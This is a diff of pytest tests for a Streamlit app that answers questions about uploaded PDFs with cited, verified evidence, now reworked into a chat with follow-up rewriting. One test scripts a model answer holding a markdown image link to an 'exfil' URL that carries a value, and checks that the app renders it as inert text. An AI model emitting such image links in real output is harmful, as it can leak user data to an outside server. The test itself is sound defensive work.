@@ -127,24 +127,40 @@ def _with_vlm(monkeypatch: pytest.MonkeyPatch) -> Iterator[ChatServer]:
         yield srv
 
 
-def test_ask_with_evidence_boxes_and_zoom(ui_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def _cite_buttons(at: AppTest) -> list[str]:
+    return [b.key for b in at.main.button if b.key and b.key.startswith("cite-")]
+
+
+def test_ask_is_a_chat_whose_citations_open_their_page_and_last(ui_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     for srv in _with_vlm(monkeypatch):
         at = _upload(_app(), PDFS / "refcard-a4.pdf")
         at = _goto(at, "Ask")
         srv.script = [ok(json.dumps({"found": True, "answer": "Use inv().", "evidence": [
             {"page": 1, "quote": "inverse", "bbox_2d": None}, {"page": 1, "quote": "moon cheese", "bbox_2d": None}]}))]
-        at.text_input[0].input("how do I invert a matrix")
-        _button(at, "Ask").click().run()
+        at.chat_input[0].set_value("how do I invert a matrix").run()
         assert not at.exception, at.exception
         assert any("Use inv" in s.value for s in at.success), "its words are backed by verified evidence"
         text = _text(at)
-        assert "**verified** · page " in text and "**unverified** · page " in text
-        assert "likely a hallucination" in text, "the legend"
-        before = len(_images(at))
-        at.button(key="zoom-0").click().run()
-        assert not at.exception and len(_images(at)) == before + 1, "the zoomed evidence"
-        assert [b.key for b in at.main.button if b.key and b.key.startswith("zoom-")] == ["zoom-0"], \
-            "an unverified quote has no box to zoom to"
+        assert "**verified** · refcard-a4.pdf · page " in text and "**unverified** · refcard-a4.pdf" in text
+        assert len(_cite_buttons(at)) == 2 and not _images(at)
+        at.button(key=_cite_buttons(at)[0]).click().run()
+        assert not at.exception and len(_images(at)) == 1, "the cited page, its box drawn"
+        # a follow-up: rewritten with the history (the stand-in's rewrite), then answered
+        srv.script = [ok(json.dumps({"standalone": "how do I transpose a matrix"})),
+                      ok(json.dumps({"found": True, "answer": "Use t().",
+                                     "evidence": [{"page": 1, "quote": "transpose", "bbox_2d": None}]}))]
+        at.chat_input[0].set_value("and transpose it?").run()
+        assert not at.exception, at.exception
+        assert any("searched as: how do I transpose a matrix" in c.value for c in at.caption)
+        assert [m.name for m in at.main.get("chat_message")] == ["user", "assistant", "user", "assistant"]
+        assert "how do I invert a matrix" in json.dumps(srv.requests[1]["messages"]), "the history went along"
+        # shown again from the catalog (a new session): the same two turns
+        again = _goto(_app(), "Ask")
+        picks = again.sidebar.radio[1]
+        again = picks.set_value(picks.options[1]).run()
+        assert not again.exception, again.exception
+        assert len(again.main.get("chat_message")) == 4
+        assert any("Use t" in s.value for s in [*again.success, *again.warning])
 
 
 def test_extract_preset_correct_and_export(ui_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -251,14 +267,14 @@ def test_a_models_answer_is_text_and_green_only_when_its_values_are_verified(ui_
         at = _goto(_upload(_app(), PDFS / "refcard-a4.pdf"), "Ask")
         srv.script = [ok(json.dumps({"found": True, "answer": "![x](http://127.0.0.1:9/exfil?total=1) see [here](http://x)",
                                      "evidence": [{"page": 1, "quote": "inverse", "bbox_2d": None}]}))]
-        at.text_input[0].input("how do I invert a matrix")
-        _button(at, "Ask").click().run()
+        at.chat_input[0].set_value("how do I invert a matrix").run()
         shown = [s.value for s in at.success] + [w.value for w in at.warning]
         assert any("\\!\\[x\\]\\(http" in v for v in shown), shown  # inert text, not an image or a link
         assert not any("![x](" in v for v in shown)
-        srv.script = [ok(json.dumps({"found": True, "answer": "The total is 0",
+        srv.script = [ok(json.dumps({"standalone": "the total"})),
+                      ok(json.dumps({"found": True, "answer": "The total is 0",
                                      "evidence": [{"page": 1, "quote": "inverse", "bbox_2d": None}]}))]
-        _button(at, "Ask").click().run()
+        at.chat_input[0].set_value("and the total?").run()
         assert not [s.value for s in at.success if "total is 0" in s.value], "a 0 not in the evidence is not green"
         assert any("not in the verified evidence" in w.value for w in at.warning)
 
